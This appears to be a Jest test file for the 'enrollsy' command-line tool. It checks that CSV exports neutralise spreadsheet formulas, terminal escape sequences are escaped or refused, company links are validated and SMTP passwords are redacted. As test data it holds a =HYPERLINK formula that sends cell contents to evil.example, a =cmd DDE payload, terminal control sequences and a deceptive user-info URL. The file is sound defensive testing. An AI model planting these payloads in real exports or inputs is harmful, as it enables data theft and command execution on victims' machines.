import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { SMTPServer } from 'smtp-server';
import { plantRaw, repoRoot, runBinary as runBinaryIn, tempDir, type RunResult } from './helpers/cli.js';
import { engines, storeLocation, type EngineName, type TestStoreLocation } from './helpers/engines.js';

// Text from outside (exports, typed addresses, settings, SMTP replies) reaching a spreadsheet,
// a terminal or the audit log, through the built binary.
// On both engines: each test gets its own demo store (a file, or a new PostgreSQL database).
let dir: string;
let cleanup: () => void;
let db: string;
let location: TestStoreLocation;
let engine: EngineName;
/** The built binary, with this test's store environment (ENROLLSY_OUTBOX) under the given env. */
const runBinary = (args: string[], options: { env?: NodeJS.ProcessEnv; stdin?: string } = {}) => runBinaryIn(args, { ...options, env: { ...location.env, ...options.env } });

const ESC = '\u001b';
const BEL = '\u0007';
const raw = (result: RunResult) => result.stdout + result.stderr;

/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\n') row.push(field), rows.push(row), (row = []), (field = '');
    else field += c;
  }
  if (field !== '' || row.length > 0) row.push(field), rows.push(row);
  return rows;
}

describe.each(engines)('on %s', (name) => {
  beforeEach(async () => {
    engine = name;
    ({ dir, cleanup } = tempDir());
    location = await storeLocation(engine, dir);
    db = location.db;
    expect((await runBinary(['--db', db, 'init', '--demo'])).code).toBe(0);
  });
  afterEach(async () => {
    await location.drop();
    cleanup();
  });

  describe('conflicts --csv: cells a spreadsheet would run as formulas', () => {
    it('are prefixed with a quote; everything else is written as it is', async () => {
      const hostile = join(dir, 'hostile.csv');
      writeFileSync(
        hostile,
        [
          'account_id,account_name,role,first_name,last_name,email,login_access',
          '-A1,"=HYPERLINK(""https://evil.example/?""&A1,""Open"")",primary,+Jane,@Doe,=1+1@example.com,',
          'A2,"=cmd|\' /C calc\'!A0",primary,-2+3,Evil,=1+1@example.com,',
          'A3,Plain Family,primary,Ann,Plain,+tag@example.com,',
          'A4,＝Fullwidth,primary,Bob,Plain,+tag@example.com,',
        ].join('\n'),
      );
      expect((await runBinary(['--db', db, 'import', hostile])).code).toBe(0);
      const result = await runBinary(['--db', db, 'conflicts', '--csv']);
      expect(result.code).toBe(1);
      const rows = parseCsv(result.stdout);
      expect(rows[0]).toEqual(['normalized_email', 'account_id', 'account_name', 'role', 'name', 'email']);
      for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(/^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/);
      const byAccount = Object.fromEntries(rows.slice(1).map((row) => [row[1], row]));
      expect(byAccount["'-A1"]).toEqual(["'=1+1@example.com", "'-A1", `'=HYPERLINK("https://evil.example/?"&A1,"Open")`, 'primary', "'+Jane @Doe", "'=1+1@example.com"]);
      expect(byAccount.A2).toEqual(["'=1+1@example.com", 'A2', "'=cmd|' /C calc'!A0", 'primary', "'-2+3 Evil", "'=1+1@example.com"]);
      expect(byAccount.A3).toEqual(["'+tag@example.com", 'A3', 'Plain Family', 'primary', 'Ann Plain', "'+tag@example.com"]);
      expect(byAccount.A4![2]).toBe("'＝Fullwidth");
      // JSON keeps the data exactly as stored: the quote is for spreadsheets only.
      const json = JSON.parse((await runBinary(['--db', db, 'conflicts', '--json'])).stdout);
      expect(json.conflicts.map((c: { normalizedEmail: string }) => c.normalizedEmail)).toContain('=1+1@example.com');
    });
  });

  describe('terminal escape sequences', () => {
    it('company settings refuse control characters (exit 2, nothing changed)', async () => {
      for (const args of [['--name', `Evil${ESC}]0;x${BEL}`], ['--embed', `<a>${ESC}[2J</a>`], ['--name', 'Soft\u0085Line']]) {
        const result = await runBinary(['--db', db, 'company', 'set', ...args]);
        expect([args[0], result.code]).toEqual([args[0], 2]);
        expect(result.stderr).toMatch(/^✖ --(name|embed) contains a control or invisible character \(".*\\u\{(1b|85)\}.*"\)/);
        expect(raw(result)).not.toContain(ESC);
      }
      expect((await runBinary(['--db', db, 'init', '--name', `Evil${ESC}]0;x${BEL}`])).code).toBe(2);
      expect(JSON.parse((await runBinary(['--db', db, 'company', 'show', '--json'])).stdout).name).toBe('Sunrise Swim Club');
    });

    it('a typed address is echoed with its controls escaped', async () => {
      const result = await runBinary(['--db', db, 'diagnose', `jane${ESC}]0;x${BEL}@example.com`]);
      expect(result.code).toBe(1);
      expect(raw(result)).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      expect(result.stdout).toContain('jane\\u{1b}]0;x\\u{7}@example.com');
    });

    it('text already in a store (an older version let it in) is shown escaped; the tool keeps its own colours', async () => {
      await plantRaw({ engine, db }, `update company set name = 'Evil${ESC}]0;pwned${BEL}'`);
      await plantRaw({ engine, db }, `update holders set first_name = 'Ja${ESC}[8mne\u009b2J' where email = 'jane.doe@example.com'`);
      const show = await runBinary(['--db', db, 'company', 'show']);
      expect(show.stdout).toContain('Evil\\u{1b}]0;pwned\\u{7}');
      const report = await runBinary(['--db', db, 'diagnose', 'jane.doe@example.com'], { env: { FORCE_COLOR: '1' } });
      expect(report.stdout).toContain('Ja\\u{1b}[8mne\\u{9b}2J');
      expect(report.stdout).toContain(`${ESC}[32m`);
      expect(report.stdout.replace(/\u001b\[(?:0|1|2|22|3[0-7]|39|9[0-7])m/g, '')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      const json = await runBinary(['--db', db, 'diagnose', 'jane.doe@example.com', '--json']);
      expect(json.stdout.trimEnd()).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
      expect(JSON.parse(json.stdout).holders[0].name).toBe(`Ja${ESC}[8mne\u009b2J Doe`);
    });
  });

  describe('company links', () => {
    it('must be https, without user info or a fragment (exit 2 with the reason)', async () => {
      const cases: [string, string, RegExp][] = [
        ['--reset-url', 'http://app.enrollsy.com/reset', /--reset-url needs an https:\/\/ link/],
        ['--sign-in-url', 'http://app.enrollsy.com/in', /--sign-in-url needs an https:\/\/ link/],
        ['--reset-url', 'https://app.enrollsy.com@evil.example/reset', /--reset-url must not hold a user name or password before the host/],
        ['--reset-url', 'https://user:pw@app.enrollsy.com/reset', /must not hold a user name or password/],
        ['--sign-in-url', 'https://app.enrollsy.com/in#/evil', /--sign-in-url must not end in a #fragment/],
        ['--reset-url', 'https://app.enrollsy.com/reset#', /must not end in a #fragment/],
      ];
      for (const [flag, url, message] of cases) {
        const result = await runBinary(['--db', db, 'company', 'set', flag, url]);
        expect([url, result.code]).toEqual([url, 2]);
        expect(result.stderr).toMatch(message);
        expect(result.stderr.trim().split('\n')).toHaveLength(1);
      }
      const ok = await runBinary(['--db', db, 'company', 'set', '--reset-url', 'https://app.enrollsy.com/account/password-reset?company=x', '--json']);
      expect([ok.code, JSON.parse(ok.stdout).resetUrl]).toEqual([0, 'https://app.enrollsy.com/account/password-reset?company=x']);
    });
  });

  describe('an SMTP server that echoes the credentials in its reply', () => {
    const USER = 'mailer';
    const PASSWORD = 'c0rrect-h0rse';
    const plain = Buffer.from(`\0${USER}\0${PASSWORD}`).toString('base64');
    const login = Buffer.from(PASSWORD).toString('base64');
    let server: SMTPServer;
    let port: number;
    beforeAll(async () => {
      server = new SMTPServer({
        disabledCommands: ['STARTTLS'],
        logger: false,
        onAuth(_auth, _session, callback) {
          // As a careless server does: the AUTH PLAIN string (and the password's base64) in the error.
          callback(Object.assign(new Error(`5.7.8 AUTH PLAIN ${plain} refused (password ${login}, shifted x${Buffer.from(`xy${PASSWORD}`).toString('base64')})`), { responseCode: 535 }));
        },
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.server.address() as { port: number }).port;
    });
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

    it('never prints or audits the password, plain or in base64', async () => {
      const env = { ENROLLSY_SMTP_URL: `smtp://${USER}:${PASSWORD}@127.0.0.1:${port}`, ENROLLSY_SMTP_TIMEOUT_MS: '5000' };
      const result = await runBinary(['--db', db, 'reset', 'jane.doe@example.com', '--json'], { env });
      expect(result.code).toBe(4);
      const audit = await runBinary(['--db', db, 'audit', '--json']);
      const everything = raw(result) + audit.stdout;
      expect(everything).toContain('SMTP authentication failed');
      expect(everything).toContain('***');
      for (const secret of [PASSWORD, plain, login, Buffer.from(`xy${PASSWORD}`).toString('base64').slice(4, -4)]) expect(everything).not.toContain(secret);
    });
  });

  describe('import - waits for its input without the write lock', () => {
    it('another admin writes while stdin is still arriving; the import then completes', async () => {
      const csv = join(dir, 'accounts.csv');
      writeFileSync(csv, 'account_id,account_name,role,first_name,last_name,email,login_access\nB1,Slow Family,primary,Sol,Slow,sol.slow@example.com,\n');
      const script = `sleep 4; cat '${csv}'`;
      const importing = new Promise<RunResult>((resolve) => {
        const child = spawn('sh', ['-c', `(${script}) | '${process.execPath}' '${join(repoRoot, 'bin/enrollsy-help.js')}' --db '${db}' import -`], { stdio: ['ignore', 'pipe', 'pipe'] });
        let stdout = '';
        let stderr = '';
        child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
        child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
        child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }));
      });
      // Long enough for the import to have started and opened the store; well before its input ends.
      await new Promise((resolve) => setTimeout(resolve, 1500));
      const write = await runBinary(['--db', db, '--lock-timeout', '1000', 'company', 'set', '--name', 'Written Meanwhile']);
      expect([write.code, write.stderr]).toEqual([0, '']);
      const imported = await importing;
      expect([imported.code, imported.stderr]).toEqual([0, '']);
      expect(imported.stdout).toContain('Imported 1 account with 1 holder from 1 row.');
      expect(JSON.parse((await runBinary(['--db', db, 'diagnose', 'sol.slow@example.com', '--json'])).stdout).found).toBe(true);
      expect(JSON.parse((await runBinary(['--db', db, 'company', 'show', '--json'])).stdout).name).toBe('Written Meanwhile');
    });
  });
});
